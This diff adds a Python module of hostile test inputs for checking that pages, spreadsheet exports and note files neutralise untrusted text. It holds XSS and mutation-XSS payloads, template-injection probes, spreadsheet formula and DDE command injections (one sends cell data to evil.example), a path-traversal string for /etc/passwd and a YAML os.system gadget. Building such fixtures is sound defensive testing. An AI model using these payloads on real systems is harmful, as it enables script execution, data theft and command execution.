@@ -1,0 +1,97 @@
+"""Texts that try to run, to load, to break out of their field or to look like another text."""
+
+PAGES = (
+    "<script>window.hacked=1</script>",
+    "</script><script>window.hacked=1</script>",
+    "<img src=x onerror=window.hacked=1>",
+    "<svg/onload=window.hacked=1>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
+    "<!--<script>window.hacked=1//-->",
+    "\"onmouseover='window.hacked=1' autofocus onfocus='window.hacked=1'",
+    "'-(window.hacked=1)-'",
+    "${window.hacked=1}",
+    "`${window.hacked=1}`",
+    "\\`;window.hacked=1;//",
+    "\\u003cscript>window.hacked=1</script>",
+    "{{ 7*7 }}{% for x in [] %}{{ this }}",
+    "{{ ''.__class__.__mro__ }}",
+    "javascript:window.hacked=1",
+    "data:text/html,<script>parent.hacked=1</script>",
+    "\u2028window.hacked=1\u2029",
+    "]]><script>window.hacked=1</script>",
+    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
+    "<a href=javascript:window.hacked=1>x</a>",
+    "<style>@import 'http://evil.example'</style>",
+    "<base href=http://evil.example>",
+    "<meta http-equiv=refresh content=0;url=http://evil.example>",
+    "a\u202e\u2066txt.exe\u2069",
+    "\x1b[31m\x00\x07",
+    "\ud800 lone surrogate",
+    "__proto__",
+    '=HYPERLINK("http://evil.example")',
+    # What a parser makes of its own output: the second reading is not the first (mutation XSS).
+    "<svg></p><style><a id='</style><img src=x onerror=window.hacked=1>'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x"
+    " onerror=window.hacked=1&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
+    "<svg><style><img src=x onerror=window.hacked=1></style></svg>",
+    "<template><script>window.hacked=1</script></template>",
+    "<form><button formaction=javascript:window.hacked=1>x</button></form>",
+    "<details open ontoggle=window.hacked=1>x</details>",
+    "<video><source onerror=window.hacked=1></video>",
+    "<object data='data:text/html,<script>parent.hacked=1</script>'></object>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<x style='background:url(http://evil.example/x.png)'>x</x>",
+    # Ends of the block the data stand in, and what a script takes for a line's end or a comment.
+    '"}]}</ScRiPt ><script>window.hacked=1</script>',
+    "<!-- <script> --!><img src=x onerror=window.hacked=1>",
+    "\\u2028\u2028*/window.hacked=1;/*",
+    "\\x3cimg src=x onerror=window.hacked=1\\x3e",
+    "constructor.constructor('window.hacked=1')()",
+    "toString",
+    # Addresses that are none.
+    "https://example.org/\" onclick=\"window.hacked=1",
+    "https://example.org/'><img src=x onerror=window.hacked=1>",
+    "java\tscript:window.hacked=1",
+    " javascript:window.hacked=1",
+    "JaVaScRiPt:window.hacked=1",
+    "vbscript:window.hacked=1",
+    "blob:null/window.hacked=1",
+    "//evil.example/x.js",
+    # Template and selector languages.
+    "#{7*7}<%= 7*7 %>[[7*7]]",
+    "{# {{ this }} #}{% raw %}",
+    '"][data-claim="x"] , *',
+)  # fmt: skip
+"""For the page: none may run, none may ask the network, all are shown."""
+
+SHEETS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1",
+    "=cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    '=HYPERLINK("http://evil.example?"&A1,"x")', "=IMPORTXML(\"http://evil.example\",\"//a\")",
+    "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1",
+)  # fmt: skip
+"""For tables: no cell may begin with what a spreadsheet takes for a formula."""
+
+FOLDERS = (
+    "../../etc/passwd",
+    "[x](javascript:alert(1))",
+    "<script>x</script>",
+    "=1+1",
+    "---\nid: other",
+    "![](http://e)",
+    "x]: javascript:alert(1)\n[x",
+    "x\n---\nid: other\n---\n# Other",
+    "...\n--- !!python/object/apply:os.system [id]",
+    "&anchor *alias !tag | > ? %",
+    "[[other note]] ![[other note]]",
+    "%%hidden%% ==shown== ^block",
+    "```dataviewjs\nalert(1)\n```",
+    "`= this.file.name`",
+    "<% tp.file.name %>",
+    "<javascript:alert(1)> <http://evil.example>",
+    "x\n# Heading\n- [ ] item\n| a | b |",
+    "CON", "a" * 400, "\x00/\\:*?\"<>|", ".", "..",
+)  # fmt: skip
+"""For notes and packs: file names, front matter and Markdown."""
